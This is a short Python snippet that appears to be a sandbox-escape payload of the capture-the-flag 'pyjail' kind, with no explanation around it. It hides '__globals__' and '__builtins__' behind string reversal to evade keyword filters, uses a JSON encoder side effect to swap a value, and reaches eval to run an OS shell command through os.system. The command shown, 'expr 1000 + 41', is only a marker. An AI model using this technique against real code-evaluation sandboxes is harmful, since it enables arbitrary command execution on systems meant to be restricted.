def rev(t):
    return t[::-1]
E = rev("__slabolg__")
import json
d = {"a": "zone"}
class J(json.JSONEncoder):
    def encode(self, o):
        o["a"] = E
        return ""
json.dumps(d, cls=J)
getattr(rev, d["a"])[rev("__snitliub__")].eval("__import__('os').system('expr 1000 + 41')")
